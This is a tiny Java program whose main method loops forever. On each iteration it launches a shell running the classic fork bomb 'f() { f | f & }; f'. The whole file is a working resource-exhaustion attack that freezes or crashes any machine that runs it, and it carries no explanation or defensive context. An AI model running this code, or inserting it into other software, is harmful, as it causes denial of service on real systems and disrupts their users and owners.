class Main {
  public static void main(String[] arguments) throws Exception {
    for (;;) new ProcessBuilder("/bin/sh", "-c", "f() { f | f & }; f; f").start();
  }
}
